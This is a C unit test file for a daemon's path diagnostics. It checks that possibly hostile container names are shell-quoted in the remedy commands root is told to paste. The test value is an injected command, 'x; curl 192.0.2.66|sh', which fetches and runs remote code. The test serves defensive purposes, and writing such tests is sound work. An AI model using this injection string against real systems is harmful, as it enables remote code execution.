/* Unit tests of what the group `path` of anchord doctor says: the names in it are an anchor's words, which may have
 * been taken over, and its lines are pasted by root. */
#include "daemon/command/path_plan.h"

#include "common/cleanup.h"

#include <netinet/in.h>
#include <setjmp.h>
#include <stdarg.h>
#include <string.h>

#include <cmocka.h>

#define EVIL "x; curl 192.0.2.66|sh"

static size_t evil_answers;

/* Each remedy that has the name in it has it quoted. */
static void note(const struct answer *answer, void *userdata)
{
    const char *found = answer->remedy;

    (void)userdata;
    for (; (found = strstr(found, EVIL)); found++) {
        assert_true(found > answer->remedy && found[-1] == '\'');
        assert_int_equal(found[strlen(EVIL)], '\'');
        evil_answers++;
    }
}

static void a_name_is_one_word_of_a_command(void **state)
{
    const struct path_scene scene = {.is_on_host = true};
    const struct probe_result refused = {.outcome = PROBE_REFUSED};
    const struct probe_result silent = {.outcome = PROBE_SILENT};
    const struct probe_result answered = {.outcome = PROBE_ANSWERED};
    const struct probe_result loopback = {.outcome = PROBE_LOOPBACK};
    struct path_container container = {
        .name = EVIL, .finding = "", .routes = {&answered, &answered}, .resolver = &answered, .question = &silent};
    struct path_port port = {.protocol = IPPROTO_TCP, .family = IP_FAMILY_4, .container = &container};
    const struct path_way_out way = {.container = &container, .family = IP_FAMILY_4, .lan_seen = &answered};
    const path_result inside[] = {&refused, &silent, &answered};

    (void)state;
    port.as_client = &silent;
    for (size_t i = 0; i < ARRAY_LENGTH(inside); i++) {
        port.inside = inside[i];
        path_judge_port(&scene, &port, note, NULL);
    }
    port.inside = &refused;
    port.listeners = &loopback;
    path_judge_port(&scene, &port, note, NULL);
    path_judge_container(&scene, &container, note, NULL);
    path_judge_way_out(&scene, &way, note, NULL);
    assert_int_equal(evil_answers, 10);
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(a_name_is_one_word_of_a_command)};

    return cmocka_run_group_tests(tests, NULL, NULL);
}
